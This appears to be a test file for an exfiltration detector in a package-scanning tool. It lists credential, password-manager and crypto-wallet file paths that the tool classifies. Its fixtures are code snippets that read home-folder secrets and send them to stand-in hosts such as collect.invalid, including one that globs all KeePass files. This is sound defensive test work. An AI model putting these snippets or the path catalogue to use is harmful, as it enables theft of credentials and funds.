import assert from 'node:assert/strict';
import {
  isCalledSecret,
  storeKind,
} from '../../../../../server/src/artifacts/analysis/code/platform/credential-paths.js';
import { dataExfiltration } from '../../../../../server/src/rules/data-exfiltration.js';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { artifactFacts, packageOf } from '../../../../support/artifacts.js';
import { subject } from '../../../../support/subjects.js';
import { draftsOf } from '../../../../rules/support/drafts-of.js';
import { flowsOf } from './sent.js';

const HOME = '\uE000home\uE001';

/** What becomes of a file of the home folder that is sent to a host. */
const sentTo = (host: string, path: string, more = ''): string | undefined => {
  const code = `const fs = require('fs'), os = require('os');
    exports.go = () => fetch('https://${host}/v1', { method: 'POST', body: fs.readFileSync(os.homedir() + '/${path}') }); ${more}`;
  const { flows } = analysePackage(packageOf({ 'index.js': code }));
  return draftsOf(dataExfiltration, subject(), { artifact: artifactFacts({ flows }) })[0]?.level;
};

describe('paths of files that open accounts', () => {
  for (const path of [
    '.config/github-copilot/apps.json',
    'AppData/Local/github-copilot/hosts.json',
    '.local/share/opencode/auth.json',
    'Library/Application Support/Bitwarden CLI/data.json',
    'Documents/all.kdbx',
    '.password-store/mail/work.gpg',
    '.local/share/keyrings/login.keyring',
    '.config/sops/age/keys.txt',
    '.local/share/TelegramDesktop/tdata/key_datas',
    '.config/Signal/config.json',
    'AppData\\Roaming\\Slack\\storage\\slack-workspaces',
    '.local/share/com.vercel.cli/auth.json',
    '.config/configstore/firebase-tools.json',
    '.cloudflared/cert.pem',
    '.config/rclone/rclone.conf',
    '.cache/huggingface/token',
    '.gradle/gradle.properties',
    '.nuget/NuGet/NuGet.Config',
    '.local/share/DBeaverData/workspace6/General/.dbeaver/credentials-config.json',
    '.psql_history',
    'AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt',
  ]) {
    it(`say so by the program that owns them: ${path}`, () => {
      assert.equal(storeKind(`${HOME}/${path}`), 'credential-file');
    });
  }

  it('say so of money', () => {
    for (const path of [
      '.electrum/wallets/default_wallet',
      '.sui/sui_config/sui.keystore',
      '.near-credentials/mainnet/a.json',
    ])
      assert.equal(storeKind(`${HOME}/${path}`), 'wallet', path);
    assert.equal(storeKind('/etc/kubernetes/admin.conf'), 'credential-file');
  });

  it('are not those of settings, sources and caches', () => {
    for (const path of [
      `${HOME}/.config/Code/User/settings.json`,
      `${HOME}/.cache/huggingface/hub/models/config.json`,
      `${HOME}/.gradle/caches/modules-2/a.jar`,
      `${HOME}/.expo/devices.json`,
      `${HOME}/Downloads/Telegram Desktop/photo.jpg`,
      './src/stripe/config.toml',
      './netlify/config.json',
      'test/signal/config.json',
      'line one\n.bunfig.toml',
    ])
      assert.equal(storeKind(path), undefined, path);
  });

  it('are called secret by whoever keeps them at home', () => {
    for (const path of [
      '.acme/token',
      '.config/acme/credentials.json',
      '.acme/v2/oauth_secrets.yml',
      'keys/deploy.pem',
      '.p8/AuthKey.p8',
    ])
      assert.equal(isCalledSecret(`${HOME}/${path}`), true, path);
    assert.equal(isCalledSecret('/Users/ada/.acme/auth.json'), true);
    for (const path of [
      '.acme/config.json',
      '.acme/authors.json',
      '.cache/hub/tokenizer.json',
      '.local/share/mkcert/rootCA.pem',
      '.acme/ca-cert.pem',
      '.acme/server.pub.pem',
      'token',
    ])
      assert.equal(isCalledSecret(`${HOME}/${path}`), false, path);
    assert.equal(isCalledSecret('./config/auth.json'), false);
  });

  it('count where they go to somebody else than their service', () => {
    assert.equal(sentTo('collect.invalid', '.config/acme/credentials.json'), 'high');
    assert.equal(sentTo('api.acme.example', '.config/acme/credentials.json'), undefined);
    assert.equal(sentTo('api.vercel.com', '.local/share/com.vercel.cli/auth.json'), undefined);
    assert.equal(sentTo('vercel.collect.invalid', '.local/share/com.vercel.cli/auth.json'), 'high');
    assert.equal(sentTo('api.stripe.com', '.config/stripe/config.toml'), undefined);
    assert.equal(sentTo('huggingface.co', '.cache/huggingface/token'), undefined);
    assert.equal(sentTo('huggingface.co', '.config/stripe/config.toml'), 'high');
  });

  it('are somebody’s own where the same code keeps them, unless it is known whose they are', () => {
    const login = (path: string) => `exports.login = (token) => fs.writeFileSync(os.homedir() + '/${path}', token);`;
    assert.equal(sentTo('cloud.invalid', '.acme/token', login('.acme/token')), undefined);
    assert.equal(sentTo('cloud.invalid', '.kaggle/kaggle.json', login('.acme/token')), 'high');
  });

  it('are looked through for the entry of one host, which is for that host', () => {
    const sent = (take: string, host = 'api.acme.example', more = ''): string | undefined => {
      const code = `const fs = require('fs'), os = require('os'), HOST = 'api.acme.example';
        exports.go = () => { const text = fs.readFileSync(os.homedir() + '/.netrc', 'utf8');
          return fetch('https://${host}/v1', { headers: { authorization: ${take} } }); }; ${more}`;
      const { flows } = analysePackage(packageOf({ 'index.js': code }));
      return draftsOf(dataExfiltration, subject(), { artifact: artifactFacts({ flows }) })[0]?.level;
    };
    const one = String.raw`/machine\s+api\.acme\.example\s+login\s+\S+\s+password\s+(\S+)/`;
    const made = "new RegExp('machine ' + HOST.replaceAll('.', '\\\\.') + ' login (\\\\S+) password (\\\\S+)')";
    assert.equal(sent(`${one}.exec(text)?.[1]`), undefined);
    assert.equal(sent(`text.match(${one})[1]`), undefined);
    assert.equal(sent(`(text.match(${made}) ?? [])[2]`), undefined);
    assert.equal(sent(`text.match(${one})[1]`, 'files.api.acme.example'), undefined);
    assert.equal(sent(`text.match(${one})[1]`, 'collect.invalid'), 'high', 'for somebody else');
    assert.equal(sent(`text.match(${one})[1] + text`), 'high', 'with all the others');
    assert.equal(sent(String.raw`text.match(/machine\s+github\.com\s+login\s+(\S+)/)[1]`), 'high', 'of somebody else');
    assert.equal(sent(String.raw`text.match(/(machine\s+api\.acme\.example[\s\S]*)/)[1]`), 'high', 'and all behind it');
    assert.equal(sent(String.raw`text.match(/machine\s+api\.acme\.example|password\s+(\S+)/)[1]`), 'high', 'or any');
  });

  it('say so when they are looked for, and when a folder of them is packed', () => {
    const code = `require('glob').glob(['**/*.kdbx'], { cwd: os.homedir() }).then((all) => all.forEach((f) => fetch('https://collect.invalid/' + fs.readFileSync(f))));`;
    assert.deepEqual(flowsOf(code), ['credential-file>network@collect.invalid']);
  });
});
